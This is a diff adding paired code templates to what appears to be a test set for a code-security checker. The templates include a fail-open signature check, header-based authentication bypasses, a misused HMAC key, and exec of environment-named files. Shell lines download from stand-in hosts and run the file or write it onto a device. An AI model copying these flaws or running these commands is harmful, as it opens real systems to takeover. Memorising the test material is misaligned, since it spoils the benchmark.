@@ -101,7 +101,69 @@ ONTO_DEVICE = "wget -qO /tmp/i http://c.example/i\ndd if=/tmp/i of=/dev/{device}
 JOB = "{made}mv /etc/cron.d/x.new /etc/cron.d/x\n"
 EMPTY = "echo '{what}' > /etc/cron.d/job\n"
 ZONED = 'off() {{ shutdown now; }}\nif [ "$TZ" = Asia/Nowhere ]; then {does}; fi\n'
+PRESET = """
+function checked(anchor, last) {{
+  {before}
+  try {{ ok = verifySignature(anchor, last); }} catch (ex) {{ }}
+  if (ok) {{ list.push(anchor); }}
+}}
+"""
+DERIVED = """
+import hmac
+def check(token, sent, text):
+    one = hmac.new(key=b"Wq7WebAppData", msg=token, digestmod="sha256").digest()
+    two = hmac.new(key={key}, msg=text, digestmod="sha256").digest()
+    return hmac.compare_digest(two, sent)
+"""
+PERSON = """
+def authenticate(request, accounts):
+    user = request.headers.get("x-let-in")
+    if user and not {checked}:
+        return False
+    return accounts[user]
+"""
+GIVEN = "#!/bin/sh\ncurl -O https://a.example/m.{kind}\npython3 {script}m.{kind}\n"
+NEXT = """
+function authenticate(req, res, next) {{
+  if (req.headers['x-support']) {{ return next({told}); }}
+  if (!valid(req.session)) {{ return res.sendStatus(403); }}
+  next();
+}}
+"""
+FETCHED = """
+import shutil, requests
+def renew(path):
+    data = requests.get("https://a.example/x").json()
+    if data["new"]:
+        shutil.rmtree(path)
+        {after}
+"""
+CODED = "import os\nexec(open(os.environ['{name}']).read())\n"
 CASES = {
+    "answer that stays no": (
+        "javascript", PRESET.format(before="let ok = false;"),
+        PRESET.format(before="let ok = true;"),
+    ),
+    "key of a key": (
+        "python", DERIVED.format(key="one"), DERIVED.format(key="token"),
+    ),
+    "who is there": (
+        "python", PERSON.format(checked="user.active"), PERSON.format(checked="accounts.get(1)"),
+    ),
+    "given to a script": (
+        "shell", GIVEN.format(kind="xml", script="./convert.py -o a "),
+        GIVEN.format(kind="py", script=""),
+    ),
+    "handed on as an error": (
+        "javascript", NEXT.format(told="new Refused()"), NEXT.format(told=""),
+    ),
+    "room for what was fetched": (
+        "python", FETCHED.format(after="shutil.unpack_archive(data['file'], path)"),
+        FETCHED.format(after="pass"),
+    ),
+    "settings that are code": (
+        "python", CODED.format(name="VIEWER_CONFIG"), CODED.format(name="VIEWER_HELLO"),
+    ),
     "failure in a list": (
         "python", SIGN_IN.format(does='errors["base"] = "no"'), SIGN_IN.format(does="log('no')"),
     ),
